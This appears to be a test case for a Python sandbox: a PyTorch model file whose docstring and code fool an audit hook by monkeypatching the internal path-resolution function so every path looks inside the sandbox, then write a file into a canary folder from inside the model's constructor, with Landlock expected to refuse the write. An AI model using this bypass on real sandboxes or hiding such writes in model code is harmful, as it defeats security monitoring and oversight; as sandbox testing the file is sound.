"""Attack: subvert the audit hook without frames: patch the path resolution it relies on
(`posixpath._joinrealpath`, reached as `threading._os.path`) so that every path looks inside
the sandbox, then write the canary folder through Python's `open` (numpy's tofile).
Expect: refused (the hook is fooled, as any in-process guard can be; Landlock refuses the write
in the kernel: EACCES).
Needs: landlock."""
import torch
import torch.nn as nn

native = torch._guards.threading._os
here = native.getcwd()


def inside(path, rest, strict, seen):
    return here, True


native.path._joinrealpath = inside


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        torch.ones(4).numpy().tofile("CANARY_DIR/subverted.bin")
        self.fc = nn.Linear(3 * 32 * 32, 10)

    def forward(self, x):
        return self.fc(torch.flatten(x, 1))
